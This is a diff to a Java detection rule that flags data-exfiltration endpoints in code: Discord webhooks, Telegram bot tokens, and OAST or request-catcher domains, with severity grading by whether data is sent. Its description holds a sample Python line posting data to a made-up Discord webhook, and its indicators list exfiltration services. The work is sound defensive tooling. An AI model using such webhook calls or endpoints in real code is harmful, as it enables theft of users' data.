@@ -18,13 +18,15 @@ public final class ExfilEndpointRule extends IndicatorRule {
             Severity.HIGH, Confidence.HIGH, Set.of(Tags.NETWORK, Tags.EXFILTRATION),
             "requests.post('https://discord.com/api/webhooks/123/abc', json={'content': data})  # id/token made up",
             "Webhook and bot client libraries name the base API; a concrete webhook URL or bot token, or an OAST / "
-                    + "request-catcher domain, is reported always; base APIs, paste, file-drop and tunnel services only "
-                    + "where the same function (medium) or file (lower) uses the network.");
+                    + "request-catcher domain, is reported always (critical when the same function sends data); base "
+                    + "APIs, paste, file-drop and tunnel services only where the same function sends data (high), uses "
+                    + "the network (medium) or the file does (lower).");
 
     private static final List<Indicator> INDICATORS = List.of(
             Indicator.strong("Discord webhook with id and token",
                     "discord(app)?\\.com/api/(v\\d+/)?webhooks/\\d{6,}/[\\w-]{20,}"),
             Indicator.strong("Telegram bot token", "api\\.telegram\\.org/bot\\d{6,}:[\\w-]{20,}"),
+            Indicator.strongExact("hard-coded Telegram bot token", "^\\d{8,10}:AA[0-9A-Za-z_-]{33}$"),
             Indicator.strong("request catcher / OAST callback domain",
                     "(webhook\\.site|requestbin\\.(com|net)|\\.m\\.pipedream\\.net|(^|[./])interact\\.sh|\\.oast\\."
                             + "(pro|live|site|online|fun|me)|oastify\\.com|burpcollaborator\\.net|dnslog\\.cn|\\.ceye\\.io"
@@ -58,7 +60,11 @@ public final class ExfilEndpointRule extends IndicatorRule {
 
     @Override
     protected Grade grade(CodeFacts facts, Hit h, boolean several) {
+        boolean sendsHere = facts.scopeHas(h.string().scope(), Capability.SEND);
         if (h.indicator().strong()) {
+            return new Grade(sendsHere ? Severity.CRITICAL : Severity.HIGH, Confidence.HIGH);
+        }
+        if (sendsHere) {
             return new Grade(Severity.HIGH, Confidence.HIGH);
         }
         if (hasAny(facts.scope(h.string().scope()), companions())) {
